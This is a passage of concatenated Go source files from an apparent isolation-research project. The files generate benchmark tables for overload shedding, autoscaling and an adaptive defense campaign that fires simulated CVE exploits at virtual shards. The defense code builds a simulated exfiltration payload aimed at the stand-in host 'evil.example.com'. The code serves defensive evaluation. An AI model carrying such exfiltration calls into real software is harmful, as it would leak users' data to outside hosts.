// jainIndex computes Jain's fairness index (Σx)²/(n·Σx²) over per-tenant
// weighted goodput: 1.0 when every tenant gets goodput proportional to its
// weight, approaching 1/n as one tenant starves the rest.
func jainIndex(xs []float64) float64 {
	var sum, sq float64
	n := 0
	for _, x := range xs {
		sum += x
		sq += x * x
		n++
	}
	if n == 0 || sq == 0 {
		return 0
	}
	return sum * sum / (float64(n) * sq)
}

// TableOverload renders the overload drill and optionally writes the rows
// as JSON to jsonPath (the BENCH_overload.json artifact).
func TableOverload(jsonPath string) (string, error) {
	results, err := MeasureOverload(4, 16, 4, 96, []int{1, 2, 4, 10})
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Overload: bounded admission + deadline shedding, FIFO vs weighted fair queueing (4 shards, 16 heavy / 4 light streams)",
		Header: []string{"Scenario", "Offered", "Goodput", "Shed", "Shed%", "Light%", "Jain", "p50", "p99", "p99/1x"},
	}
	for _, r := range results {
		t.Add(r.Scenario, d(r.Offered), d(r.Admitted),
			fmt.Sprintf("%d+%d", r.Rejected, r.DeadlineShed),
			fmt.Sprintf("%.1f%%", 100*r.ShedRate),
			fmt.Sprintf("%.1f%%", 100*r.LightShare),
			f2(r.Jain), r.P50.String(), r.P99.String(), f2(r.P99Vs1x))
	}
	t.Notes = append(t.Notes,
		"Offered load is a multiple of calibrated capacity; the heavy tenant offers 4x the light tenant's rate at equal weight.",
		"Shed column splits queue-bound rejections + deadline drops; both leave zero checkpoint entries (exactly-once preserved).",
		"Jain's index is over per-tenant weighted goodput: 1.00 = each tenant's goodput proportional to its weight.",
		"The queue bound caps admitted-request latency at any factor - overload turns into sheds, not p99 melt.")
	if jsonPath != "" {
		if err := WriteOverloadJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}
	return t.String(), nil
}

// WriteOverloadJSON writes overload results as indented JSON.
func WriteOverloadJSON(path string, results []OverloadResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
