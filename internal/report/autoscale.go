package report

import (
	"encoding/json"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

// AutoscaleResult is one row of the autoscaling experiment: the stateful
// tracking service under a load ramp (burst streams joining mid-run,
// finishing early), served by a fixed pool or by the control plane scaling
// between MinShards and MaxShards. The claim the table defends: the
// autoscaled pool holds the fixed-max pool's tail latency (±10%) while
// burning materially fewer shard-seconds.
type AutoscaleResult struct {
	// Scenario names the configuration.
	Scenario string `json:"scenario"`
	// MinShards/MaxShards bound the pool; fixed pools have them equal.
	MinShards int `json:"min_shards"`
	MaxShards int `json:"max_shards"`
	// PeakShards is the largest pool observed during the run.
	PeakShards int `json:"peak_shards"`
	// Streams is the client count; Served is how many finished clean.
	Streams int `json:"streams"`
	Served  int `json:"served"`
	// Steps is the total measurement count folded across all streams.
	Steps int `json:"steps"`
	// P50/P95/P99 are per-step virtual latencies (arrival to completion,
	// queueing included) in nanoseconds.
	P50 vclock.Duration `json:"p50_ns"`
	P95 vclock.Duration `json:"p95_ns"`
	P99 vclock.Duration `json:"p99_ns"`
	// P99VsMax is this row's p99 over the fixed n=max row's p99.
	P99VsMax float64 `json:"p99_vs_max"`
	// CriticalPath is the max-merged virtual time across shard clocks.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// ShardSeconds integrates pool size over the run — the resource cost.
	ShardSeconds vclock.Duration `json:"shard_seconds_ns"`
	// ShardSecondsVsMax is this row's shard-seconds over the fixed n=max
	// row's.
	ShardSecondsVsMax float64 `json:"shard_seconds_vs_max"`
	// Control-plane activity for the row.
	ScaleUps          uint64 `json:"scale_ups"`
	ScaleDowns        uint64 `json:"scale_downs"`
	Rebalances        uint64 `json:"rebalances"`
	BatchedAdmissions uint64 `json:"batched_admissions"`
	BatchedRequests   uint64 `json:"batched_requests"`
	// ControlEvents is the length of the controller's replayable decision
	// log (0 for fixed pools).
	ControlEvents int `json:"control_events"`
}

// autoscaleRun is one configuration of the ramp drill.
type autoscaleRun struct {
	scenario string
	min, max int
	placer   sched.Placer
	control  bool
}

// MeasureAutoscale serves one deterministic load ramp (base streams for the
// whole run, burst streams joining mid-run and leaving early) under four
// configurations: fixed pools at the bounds, the controller with default
// round-robin placement, and the controller with the NUMA-aware locality
// placer. All four see byte-identical streams; fixed rows run the exact
// legacy admission path (no controller attached, so the control plane costs
// them nothing).
func MeasureAutoscale(min, max, base, burst, steps int) ([]AutoscaleResult, error) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	streams := apps.GenRampStreams(11, base, burst, steps)
	totalSteps := 0
	for _, st := range streams {
		totalSteps += len(st.Points)
	}

	runs := []autoscaleRun{
		{scenario: fmt.Sprintf("fixed n=%d", min), min: min, max: min},
		{scenario: fmt.Sprintf("fixed n=%d", max), min: max, max: max},
		{scenario: fmt.Sprintf("autoscaled %d..%d", min, max), min: min, max: max, control: true},
		{scenario: fmt.Sprintf("autoscaled %d..%d +locality", min, max), min: min, max: max, control: true,
			placer: sched.Locality{Topo: sched.Topology{ShardsPerSocket: 2}, SpillThreshold: 1}},
	}

	var out []AutoscaleResult
	for _, rn := range runs {
		ex, err := core.NewExecutor(rn.min, core.ProtectedShards(reg, cat, core.Default()))
		if err != nil {
			return nil, err
		}
		srv := apps.ProvisionTracking(ex)
		// Steady state: agent-spawn cost of the initial pool (identical per
		// shard) is not part of the serving window. Shards the controller
		// grows later DO pay their boot cost on the timeline — that lag is
		// exactly the autoscaling trade the table measures.
		for i := 0; i < ex.Shards(); i++ {
			ex.Shard(i).K.Clock.Reset()
		}
		var ctl *sched.Controller
		var ticker apps.Ticker
		var batcher apps.AdmissionBatcher
		if rn.control {
			ctl = sched.New(ex, sched.DefaultPolicy(rn.min, rn.max), rn.placer)
			ticker = ctl
			batcher = ctl.Batch()
		}
		results := srv.ServeRamp(streams, ticker, batcher)
		crit := ex.CriticalPath()
		m := ex.Metrics().Snapshot()
		row := AutoscaleResult{
			Scenario:          rn.scenario,
			MinShards:         rn.min,
			MaxShards:         rn.max,
			PeakShards:        ex.Shards(),
			Streams:           len(streams),
			Served:            servedStreams(results),
			Steps:             servedSteps(results),
			P50:               ex.Latencies().P50(),
			P95:               ex.Latencies().P95(),
			P99:               ex.Latencies().P99(),
			CriticalPath:      crit,
			ShardSeconds:      ex.ShardSeconds(crit),
			ScaleUps:          m.ScaleUps,
			ScaleDowns:        m.ScaleDowns,
			Rebalances:        m.Rebalances,
			BatchedAdmissions: m.BatchedAdmissions,
			BatchedRequests:   m.BatchedRequests,
		}
		if ctl != nil {
			row.PeakShards = ctl.PeakShards()
			row.ControlEvents = len(ctl.Events())
		}
		ex.Close()
		out = append(out, row)
	}

	// Normalize against the fixed n=max row (index 1).
	maxRow := out[1]
	for i := range out {
		if maxRow.P99 > 0 {
			out[i].P99VsMax = float64(out[i].P99) / float64(maxRow.P99)
		}
		if maxRow.ShardSeconds > 0 {
			out[i].ShardSecondsVsMax = float64(out[i].ShardSeconds) / float64(maxRow.ShardSeconds)
		}
	}
	return out, nil
}

// servedStreams counts streams that finished without error.
func servedStreams(results []apps.TrackResult) int {
	n := 0
	for _, r := range results {
		if r.Err == nil {
			n++
		}
	}
	return n
}

// servedSteps sums measurements folded across all streams.
func servedSteps(results []apps.TrackResult) int {
	n := 0
	for _, r := range results {
		n += r.Steps
	}
	return n
}

// TableAutoscale renders the autoscaling experiment and optionally writes
// the rows as JSON to jsonPath (the BENCH_autoscale.json artifact).
func TableAutoscale(jsonPath string) (string, error) {
	results, err := MeasureAutoscale(2, 8, 4, 18, 224)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Autoscaling: stateful tracking under a load ramp (burst joins mid-run, leaves early; virtual time)",
		Header: []string{"Scenario", "Peak", "Served", "p50", "p95", "p99", "p99/max", "Shard-sec", "Cost/max", "Up/Down/Rebal", "Batches"},
	}
	for _, r := range results {
		t.Add(r.Scenario, d(r.PeakShards), fmt.Sprintf("%d/%d", r.Served, r.Streams),
			r.P50.String(), r.P95.String(), r.P99.String(), f2(r.P99VsMax),
			r.ShardSeconds.String(), f2(r.ShardSecondsVsMax),
			fmt.Sprintf("%d/%d/%d", r.ScaleUps, r.ScaleDowns, r.Rebalances),
			d(int(r.BatchedAdmissions)))
	}
	t.Notes = append(t.Notes,
		"All rows serve byte-identical streams; fixed pools run with no controller attached (zero control-plane cost).",
		"Shard-seconds integrate pool size over the virtual timeline — latency parity at a lower integral is the win.",
		"The autoscaled rows grow on queue-wait pressure as the burst joins and shrink (drain + migrate, no corpse) after it leaves.",
		"+locality maps shards onto 2-shard sockets; cross-socket migrations pay the interconnect cost model.")
	if jsonPath != "" {
		if err := WriteAutoscaleJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}
	return t.String(), nil
}

// WriteAutoscaleJSON writes autoscale results as indented JSON.
func WriteAutoscaleJSON(path string, results []AutoscaleResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
