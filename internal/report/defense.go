package report

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"time"

	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/defense"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/vclock"
)

// DefenseAttackOutcome is one attack delivery inside the campaign drill.
type DefenseAttackOutcome struct {
	// CVE / API / Class identify the exploit (attack.EvalCVEs).
	CVE   string `json:"cve"`
	API   string `json:"api"`
	Class string `json:"class"`
	// Wave is "probe" (the first-sighting wave) or "main" (the full
	// 18-CVE campaign wave).
	Wave string `json:"wave"`
	// Outcome tells how the attack ended: "screened" (rejected at the
	// front door by the armed signature blocklist), "quarantined"
	// (the attacker tenant was gated at admission), "contained" (the
	// exploit ran and the isolation tier held the class verdict), or
	// "landed" (the exploit ran and the verdict fell).
	Outcome string `json:"outcome"`
	// Blocked is true for every outcome except "landed".
	Blocked bool `json:"blocked"`
}

// DefenseResult is one row of the adaptive-defense campaign: one policy
// (the four static presets plus the adaptive controller) driven through
// the identical campaign — steady serving, a probe attack wave (one CVE
// per vulnerability class), serving under pressure with a crash-looping
// shard and a quarantined repeat offender, the full 18-CVE campaign
// wave, and a final steady-state wave that prices what the deployment
// pays after the storm.
type DefenseResult struct {
	// Policy names the row (paper / tiered / erim / none / adaptive).
	Policy string `json:"policy"`
	// Adaptive marks the defense-controller row.
	Adaptive bool `json:"adaptive"`
	// ProbeBlocked / ProbeTotal score the probe wave — the adaptive row
	// pays the floor policy's verdicts here (first sighting is the price
	// of learning).
	ProbeBlocked int `json:"probe_blocked"`
	ProbeTotal   int `json:"probe_total"`
	// Blocked / Total score the main campaign wave: all 18 evaluation
	// CVEs delivered after the probe wave's sightings.
	Blocked int `json:"blocked"`
	Total   int `json:"total"`
	// Screened counts main-wave attacks rejected by the signature
	// blocklist; GateRejected counts attacks refused because their
	// tenant was quarantined.
	Screened     int `json:"screened"`
	GateRejected int `json:"gate_rejected"`
	// OffenderAttempts / OffenderRejected score the quarantined repeat
	// offender's benign traffic during the pressure wave.
	OffenderAttempts int `json:"offender_attempts"`
	OffenderRejected int `json:"offender_rejected"`
	// Served / Requests count the legitimate serving waves' outcomes.
	Served   int `json:"served"`
	Requests int `json:"requests"`
	// SteadyPath is the frontier serving probe's critical path at the
	// policy the campaign ended at — for the adaptive row, the annealed
	// floor — and SteadyOverheadPct prices it against the "none" row.
	SteadyPath        vclock.Duration `json:"steady_path_ns"`
	SteadyOverheadPct float64         `json:"steady_overhead_pct"`
	// CriticalPath is the whole campaign's virtual time.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// FinalPolicy renders the tier assignment the campaign ended at;
	// AtFloor reports whether the adaptive row annealed all the way back.
	FinalPolicy string `json:"final_policy"`
	AtFloor     bool   `json:"at_floor"`
	// Defense-controller activity (zero on static rows).
	Sightings   int `json:"sightings"`
	Escalations int `json:"escalations"`
	Anneals     int `json:"anneals"`
	Quarantines int `json:"quarantines"`
	Releases    int `json:"releases"`
	Rebinds     int `json:"rebinds"`
	// WatchdogTrips counts DoS resource-watchdog reports the defense loop
	// received (sightings whose signal came from the anomaly hook). Static
	// rows never arm the hook, so the count is zero there by construction.
	WatchdogTrips int `json:"watchdog_trips"`
	// Attacks is the per-delivery record behind the counts.
	Attacks []DefenseAttackOutcome `json:"attacks"`
	// DefenseEvents is the adaptive row's replayable decision log.
	DefenseEvents []string `json:"defense_events,omitempty"`
}

// defenseAttacker and defenseOffender are the campaign's attacker tenant
// ids: the probe-wave attacker becomes the quarantined repeat offender;
// the main wave arrives from a fresh tenant so the drill shows the
// signature blocklist (not just the quarantine gate) doing the blocking.
const (
	defenseOffender = 101
	defenseAttacker = 102
)

// defenseParams tunes the drill's control loop. The windows are tiny on
// purpose: barriers only run between serving waves, and each wave is
// hundreds of microseconds of virtual work, so a clean wave is always a
// full clean window and the anneal arc completes inside one campaign.
func defenseParams() defense.Params {
	return defense.Params{
		Floor:            isolation.ERIM(),
		CleanWindow:      vclock.Duration(10 * time.Microsecond),
		QuarantineWindow: vclock.Duration(10 * time.Microsecond),
	}
}

// probeCVEs picks the campaign's probe wave: the first evaluation CVE of
// each vulnerability class, except that the DoS probe prefers the imshow
// crash — the one attack shape that escapes the tiered preset's domain
// tier, so the probe exercises the watchdog channel end to end.
func probeCVEs() []attack.CVE {
	classes := []attack.VulnClass{attack.ClassMemWrite, attack.ClassMemRead, attack.ClassRCE, attack.ClassDoS}
	var out []attack.CVE
	for _, cl := range classes {
		var pick attack.CVE
		found := false
		for _, c := range attack.EvalCVEs() {
			if c.Class != cl {
				continue
			}
			if !found {
				pick, found = c, true
			}
			if cl == attack.ClassDoS && c.API == "cv.imshow" {
				pick = c
			}
		}
		if found {
			out = append(out, pick)
		}
	}
	return out
}

// fireCVEOnShard plants fresh attack targets in the shard's host — a
// registered critical secret and an r-x code region — then drives the
// exploit through the CVE's own API site and reads the class verdict,
// exactly as the isolation frontier does, but on a live serving shard.
// The pre-attack network length anchors the exfiltration verdict so one
// shard can absorb several attacks without polluting later verdicts.
func fireCVEOnShard(sh *core.Shard, cve attack.CVE) (blocked, hostDied bool, err error) {
	rt := sh.Rt
	if rt == nil {
		return false, false, fmt.Errorf("report: shard %d has no runtime", sh.ID)
	}
	crit, err := rt.Host.Space().Alloc(32)
	if err != nil {
		return false, false, err
	}
	if err := rt.Host.Space().Store(crit.Base, []byte("sensitive")); err != nil {
		return false, false, err
	}
	rt.RegisterCritical(crit)

	code, err := rt.Host.Space().Alloc(64)
	if err != nil {
		return false, false, err
	}
	codeBytes := []byte("TRUSTED-CODE-SEG")
	if err := rt.Host.Space().Store(code.Base, codeBytes); err != nil {
		return false, false, err
	}
	if _, err := rt.Host.Space().ProtectRegion(code, mem.PermRead|mem.PermExec); err != nil {
		return false, false, err
	}
	netBefore := len(sh.K.Net.Sent())

	var payload []byte
	switch cve.Class {
	case attack.ClassMemWrite:
		payload = attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
	case attack.ClassMemRead:
		payload = attack.Exfiltrate(cve.ID, crit.Base, 9, "evil.example.com")
	case attack.ClassRCE:
		payload = attack.CodeRewrite(cve.ID, code.Base, len(codeBytes))
	default:
		payload = attack.DoS(cve.ID)
	}
	driveIsolationCVE(sh.K, rt, cve, payload)

	switch cve.Class {
	case attack.ClassMemWrite:
		data, _ := rt.Host.Space().Load(crit.Base, 9)
		blocked = string(data) == "sensitive"
	case attack.ClassMemRead:
		blocked = len(sh.K.Net.Sent()) == netBefore
	case attack.ClassRCE:
		data, _ := rt.Host.Space().Load(code.Base, len(codeBytes))
		blocked = string(data) == string(codeBytes)
	default:
		blocked = rt.Host.Alive()
	}
	hostDied = !rt.Host.Alive()
	if !hostDied {
		// Availability first: a process-tier exploit kills only its
		// agent; the supervisor restarts it before the next request.
		_ = rt.RestartDead()
	}
	return blocked, hostDied, nil
}

// deliverAttack sends one exploit from a tenant into the pool: front-door
// screen first (adaptive only), then admission (where a quarantined
// tenant is refused), then the live exploit with its class verdict. A
// host-killing attack marks the shard lost so the next admission drains
// and replaces it through the ordinary failover machinery — the attack's
// blast radius is one shard incarnation, not the campaign. When the host
// survives, repro reprovisions the shard in place (a process-tier DoS
// kills only its agent; the supervisor restarts it, and the service
// reloads the partition state the crash took with it — the model).
func deliverAttack(ex *core.Executor, ctl *defense.Controller, tenant int, cve attack.CVE, repro func(*core.Shard) error) (DefenseAttackOutcome, error) {
	out := DefenseAttackOutcome{CVE: cve.ID, API: cve.API, Class: cve.Class.String()}
	if ctl != nil {
		if err := ctl.Screen(cve.ID); err != nil {
			out.Outcome, out.Blocked = "screened", true
			return out, nil
		}
	}
	sess := ex.SessionFor(tenant, 1)
	defer sess.Finish()
	var blocked, hostDied bool
	var fireErr error
	shardID := -1
	err := sess.Do(func(sh *core.Shard) error {
		shardID = sh.ID
		blocked, hostDied, fireErr = fireCVEOnShard(sh, cve)
		if fireErr == nil && !hostDied && repro != nil {
			fireErr = repro(sh)
		}
		return nil
	})
	if err != nil {
		if errors.Is(err, core.ErrQuarantined) {
			out.Outcome, out.Blocked = "quarantined", true
			return out, nil
		}
		return out, err
	}
	if fireErr != nil {
		return out, fireErr
	}
	if hostDied {
		ex.KillShard(shardID, fmt.Sprintf("%s killed the host", cve.ID))
	}
	if blocked {
		out.Outcome, out.Blocked = "contained", true
	} else {
		out.Outcome = "landed"
	}
	return out, nil
}

// runDefenseCampaign drives one policy through the whole campaign. For
// the adaptive row, pol is the controller's floor and the controller
// reconciles at every wave barrier; static rows run the identical
// traffic with no controller.
func runDefenseCampaign(shards, requests int, pol *isolation.Policy, adaptive bool) (DefenseResult, error) {
	reg := all.Registry()
	cat := hybridCatCached(reg)
	res := DefenseResult{Policy: pol.Name, Adaptive: adaptive}

	alog := &attack.Log{}
	var ctl *defense.Controller
	var factory core.ShardFactory
	if adaptive {
		// The dynamic factory re-reads the controller's policy on every
		// (re)build, so a shard re-bound after an escalation comes up at
		// the escalated tiers. Until the controller exists (the initial
		// build below), the floor applies — which is also the
		// controller's starting policy, so the two are consistent.
		factory = core.DynamicShards(reg, cat, func() core.Config {
			p := pol
			if ctl != nil {
				p = ctl.Policy()
			}
			return core.ConfigForIsolation(p)
		}, nil)
	} else {
		factory = core.ProtectedShards(reg, cat, core.ConfigForIsolation(pol))
	}
	ex, err := core.NewExecutor(shards, factory)
	if err != nil {
		return res, err
	}
	defer ex.Close()
	if adaptive {
		ctl = defense.New(ex, defenseParams())
		ex.SetAdmissionGate(ctl.Gate())
	}

	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		return res, err
	}
	arm := func(sh *core.Shard) {
		if sh.Rt == nil {
			return
		}
		if ctl != nil {
			ctl.Arm(sh, alog.Handler())
		} else {
			sh.Rt.OnExploit = alog.Handler()
		}
	}
	for i := 0; i < ex.Shards(); i++ {
		arm(ex.Shard(i))
	}
	ex.SetOnReplace(func(sh *core.Shard) error {
		if err := srv.Reload(sh); err != nil {
			return err
		}
		arm(sh)
		return nil
	})

	reqs := apps.GenDetectionRequests(11, requests)
	for i := range reqs {
		reqs[i].Arrival = 0 // closed loop: wave cost measures capacity
	}
	serveWave := func(crashLoop bool) {
		if crashLoop {
			// The crash-looping shard: the last slot dies at its first
			// admission of the wave and fails over mid-traffic, so the
			// defense loop always shares the pool with ordinary churn.
			last := ex.Shards() - 1
			ex.ScheduleKill(last, ex.Shard(last).Clock().Now()+1)
		}
		rs := srv.Serve(reqs)
		res.Served += apps.Served(rs)
		res.Requests += len(reqs)
	}
	barrier := func() {
		if ctl != nil {
			ctl.Tick(ex.CriticalPath())
		}
	}

	// Wave 0: steady pre-attack serving, crash-looping shard armed.
	serveWave(true)
	barrier()

	// Probe wave: one CVE per vulnerability class from the offender
	// tenant — the first sightings. The adaptive row pays its floor's
	// verdicts here; the barrier then arms the blocklist, quarantines
	// the offender, escalates the hit API types, and re-binds the pool.
	for _, cve := range probeCVEs() {
		o, err := deliverAttack(ex, ctl, defenseOffender, cve, srv.Reload)
		if err != nil {
			return res, fmt.Errorf("probe %s: %w", cve.ID, err)
		}
		o.Wave = "probe"
		res.ProbeTotal++
		if o.Blocked {
			res.ProbeBlocked++
		}
		res.Attacks = append(res.Attacks, o)
	}
	barrier()

	// Wave 1: serving under the escalated policy with the crash-looping
	// shard, while the quarantined offender retries benign traffic and
	// is refused at admission.
	serveWave(true)
	off := ex.SessionFor(defenseOffender, 1)
	for i := 0; i < 4; i++ {
		err := off.Do(func(sh *core.Shard) error {
			path := fmt.Sprintf("/srv/offender-%d.img", i)
			sh.K.FS.WriteFile(path, reqs[0].Body)
			_, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
			return err
		})
		res.OffenderAttempts++
		if errors.Is(err, core.ErrQuarantined) {
			res.OffenderRejected++
		}
	}
	off.Finish()

	// Main campaign wave: all 18 evaluation CVEs from a fresh attacker
	// tenant. On the adaptive row every class is on the blocklist, so
	// the whole wave dies at the front door; static rows replay their
	// frontier verdicts live.
	for _, cve := range attack.EvalCVEs() {
		o, err := deliverAttack(ex, ctl, defenseAttacker, cve, srv.Reload)
		if err != nil {
			return res, fmt.Errorf("campaign %s: %w", cve.ID, err)
		}
		o.Wave = "main"
		res.Total++
		if o.Blocked {
			res.Blocked++
		}
		switch o.Outcome {
		case "screened":
			res.Screened++
		case "quarantined":
			res.GateRejected++
		}
		res.Attacks = append(res.Attacks, o)
	}
	barrier()

	// Wave 2: post-storm serving. On the adaptive row the barrier above
	// annealed every escalated type one step (the clean window elapsed
	// during wave 1), so this wave runs back at the floor — the
	// blocklist and gate stay armed, but the tiers are cheap again.
	serveWave(false)
	barrier()

	res.CriticalPath = ex.CriticalPath()

	// Steady-state price: the frontier's fixed serving probe run at the
	// policy the campaign ended at. Measuring on a fresh pool keeps the
	// comparison fair — in-campaign wave costs are skewed by how many
	// shard incarnations and dead-agent restarts each row's attacks
	// caused, which is churn cost, not the steady-state mechanism cost.
	finalPol := pol
	if ctl != nil {
		finalPol = ctl.Policy()
	}
	steady, _, _, err := isolationServing(reg, cat, finalPol, shards, requests)
	if err != nil {
		return res, fmt.Errorf("steady-state probe: %w", err)
	}
	res.SteadyPath = steady
	if ctl != nil {
		st := ctl.Stats()
		res.WatchdogTrips = st.WatchdogTrips
		res.Sightings = st.Sightings
		res.Escalations = st.Escalations
		res.Anneals = st.Anneals
		res.Quarantines = st.Quarantines
		res.Releases = st.Releases
		res.Rebinds = st.Rebinds
		res.FinalPolicy = describePolicy(ctl.Policy())
		res.AtFloor = ctl.Policy().Equal(ctl.Floor())
		for _, e := range ctl.Events() {
			res.DefenseEvents = append(res.DefenseEvents, e.String())
		}
	} else {
		res.FinalPolicy = describePolicy(pol)
		res.AtFloor = true
	}
	return res, nil
}

// describePolicy renders a policy's tier assignment in ConcreteTypes
// order ("loading=process,processing=process,...").
func describePolicy(p *isolation.Policy) string {
	s := ""
	for i, t := range framework.ConcreteTypes() {
		if i > 0 {
			s += ","
		}
		s += fmt.Sprintf("%s=%s", t.Long(), p.TierOf(t))
	}
	return s
}

// MeasureDefense runs the campaign over every static preset and the
// adaptive controller, then prices steady-state overhead against the
// unprotected row's final wave. Everything runs in virtual time and is
// deterministic.
func MeasureDefense(shards, requests int) ([]DefenseResult, error) {
	out := make([]DefenseResult, 0, len(isolation.Presets())+1)
	for _, pol := range isolation.Presets() {
		r, err := runDefenseCampaign(shards, requests, pol, false)
		if err != nil {
			return nil, fmt.Errorf("report: defense campaign under %s: %w", pol.Name, err)
		}
		out = append(out, r)
	}
	r, err := runDefenseCampaign(shards, requests, isolation.ERIM(), true)
	if err != nil {
		return nil, fmt.Errorf("report: adaptive defense campaign: %w", err)
	}
	r.Policy = "adaptive"
	out = append(out, r)

	var base vclock.Duration
	for _, row := range out {
		if row.Policy == "none" {
			base = row.SteadyPath
		}
	}
	if base > 0 {
		for i := range out {
			out[i].SteadyOverheadPct = 100 * (float64(out[i].SteadyPath)/float64(base) - 1)
		}
	}
	return out, nil
}

// TableDefense renders the campaign and optionally writes the rows as
// JSON to jsonPath (the BENCH_defense.json artifact).
func TableDefense(jsonPath string) (string, error) {
	results, err := MeasureDefense(4, 64)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title: "Adaptive defense campaign: probe wave, 18-CVE main wave, steady-state cost (virtual time)",
		Header: []string{"Policy", "Probe", "Main blocked", "Screened", "Gated", "Offender rejected",
			"Steady path", "Steady overhead", "Rebinds", "At floor"},
	}
	for _, r := range results {
		t.Add(r.Policy,
			fmt.Sprintf("%d/%d", r.ProbeBlocked, r.ProbeTotal),
			fmt.Sprintf("%d/%d", r.Blocked, r.Total),
			d(r.Screened), d(r.GateRejected),
			fmt.Sprintf("%d/%d", r.OffenderRejected, r.OffenderAttempts),
			r.SteadyPath.String(), fmt.Sprintf("%+.2f%%", r.SteadyOverheadPct),
			d(r.Rebinds), fmt.Sprintf("%v", r.AtFloor))
	}
	t.Notes = append(t.Notes,
		"Identical campaign per row: steady wave, probe wave (one CVE per class), pressure wave with a",
		"  crash-looping shard and the quarantined offender's benign retries, all 18 CVEs, steady wave.",
		"The adaptive row starts at the erim floor, pays floor verdicts on the probe wave, then blocks the",
		"  entire main wave at the front door: first sighting per class arms the signature blocklist, the",
		"  offending tenant is quarantined, and the hit API types escalate (domain -> process) via live",
		"  shard re-binds through the failover machinery.",
		"Steady overhead prices the final wave after annealing: the adaptive row is back at its floor",
		"  (near-erim cost) while static paper-level containment keeps paying process-tier IPC.")
	if jsonPath != "" {
		if err := WriteDefenseJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}

	var adaptiveRow *DefenseResult
	for i := range results {
		if results[i].Adaptive {
			adaptiveRow = &results[i]
		}
	}
	s := t.String()
	if adaptiveRow != nil {
		st := &Table{
			Title:  "Adaptive controller decision log (replayable; one line per event)",
			Header: []string{"Event"},
		}
		for _, line := range adaptiveRow.DefenseEvents {
			st.Add(line)
		}
		st.Notes = append(st.Notes,
			fmt.Sprintf("sightings %d, escalations %d, anneals %d, quarantines %d, releases %d, rebinds %d; final policy %s",
				adaptiveRow.Sightings, adaptiveRow.Escalations, adaptiveRow.Anneals,
				adaptiveRow.Quarantines, adaptiveRow.Releases, adaptiveRow.Rebinds, adaptiveRow.FinalPolicy))
		s += "\n" + st.String()
	}
	return s, nil
}

// WriteDefenseJSON writes campaign rows as indented JSON.
func WriteDefenseJSON(path string, results []DefenseResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
