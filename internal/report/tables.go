package report

import (
	"bytes"
	"fmt"
	"sort"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/baseline"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/trace"
)

// hybridCat runs the full dynamic suite once and categorizes.
func hybridCat() (*analysis.Analyzer, *analysis.Categorization) {
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(k, runner)
	a := analysis.New(reg, runner.Recorder)
	return a, a.Categorize()
}

// Table1 reproduces the effectiveness comparison: security verdicts,
// isolated CVE APIs, granularity, process counts for the five baselines
// and FreePart, with attacks executed live.
func Table1() (string, error) {
	t := &Table{
		Title:  "Table 1: Effectiveness of Existing Techniques and FreePart (attacks executed live)",
		Header: []string{"Technique", "M (mem corrupt)", "C (code rewrite)", "D (DoS)", "#CVE APIs isolated", "Min APIs/proc", "Max APIs/proc", "#Processes"},
	}
	add := func(v baseline.SecurityVerdict) {
		min, max := 1<<30, 0
		for _, n := range v.APIsPerProcess {
			if n < min {
				min = n
			}
			if n > max {
				max = n
			}
		}
		if min == 1<<30 {
			min = 0
		}
		t.Add(v.Technique, check(v.MPrevented), check(v.CPrevented), check(v.DPrevented),
			d(v.IsolatedCVEAPIs), d(min), d(max), d(v.Processes))
	}
	for _, kind := range []baseline.Kind{
		baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
		baseline.LibraryPerAPI, baseline.MemoryBased,
	} {
		v, err := baseline.EvaluateSecurity(kind)
		if err != nil {
			return "", err
		}
		add(v)
	}
	fp, err := baseline.EvaluateFreePartSecurity()
	if err != nil {
		return "", err
	}
	add(fp)
	t.Notes = append(t.Notes, "M: corrupt critical template; C: rewrite another API's code; D: crash the application.")
	return t.String(), nil
}

// Table2 categorizes the motivating example's API universe (the simcv
// registry standing in for the 86 APIs of the paper's Table 2).
func Table2() (string, error) {
	_, cat := hybridCat()
	reg := all.Registry()
	counts := map[framework.APIType][]string{}
	for _, api := range reg.ByFramework("simcv") {
		ty := cat.TypeOf(api.Name)
		counts[ty] = append(counts[ty], api.Name)
	}
	t := &Table{
